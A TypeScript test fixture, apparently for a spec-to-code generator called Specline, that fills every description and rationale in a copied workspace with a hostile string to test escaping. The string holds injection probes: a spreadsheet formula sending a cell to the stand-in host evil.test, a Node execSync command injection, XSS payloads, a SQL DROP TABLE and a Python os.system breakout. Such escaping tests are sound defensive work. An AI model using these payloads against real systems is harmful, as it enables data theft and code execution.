import { cpSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { parse, stringify } from 'yaml';
import { GOLDEN_WORKSPACE } from './golden-workspace';

/**
 * Free text that tries to leave every context Specline writes it into, and that the schemas
 * still accept (Jinja markers and control characters are refused before generation; the
 * escaping modules' own tests cover those). It starts with = so spreadsheets would run it.
 */
export const HOSTILE_TEXT = [
  '=HYPERLINK("http://evil.test/?"&A1,"click")',
  `quotes ' " ''' """ """" and a backslash \\ and \\N{BULLET} and \\x00`,
  '${require("child_process").execSync("id")} ` backtick',
  '</script><script>alert(1)</script><img src=x onerror=alert(1)> <a href="javascript:alert(1)">a</a>',
  '[link](javascript:alert(1)) <javascript:alert(1)> | pipe',
  'line\u2028separator\u2029paragraph -- comment */ DROP TABLE raw.x;',
  '"""',
  'import os',
  'os.system("id")',
  '"""',
  'ends with a backslash \\',
].join('\n');

/** The golden fixture catalog with HOSTILE_TEXT as every model's and column's description and every rationale. */
export function hostileWorkspace(): string {
  const root = mkdtempSync(path.join(tmpdir(), 'specline-hostile-'));
  cpSync(GOLDEN_WORKSPACE, root, { recursive: true });
  for (const folder of ['specs/models', 'specs/sources/shop']) {
    for (const name of readdirSync(path.join(root, folder))) {
      const file = path.join(root, folder, name);
      const spec = parse(readFileSync(file, 'utf8')) as Record<string, unknown> & { columns: Record<string, unknown>[] };
      spec.description = HOSTILE_TEXT;
      for (const column of spec.columns) column.description = HOSTILE_TEXT;
      for (const input of (spec.sources as Record<string, unknown>[] | undefined) ?? []) if (input.filter) input.rationale = HOSTILE_TEXT;
      writeFileSync(file, stringify(spec));
    }
  }
  return root;
}
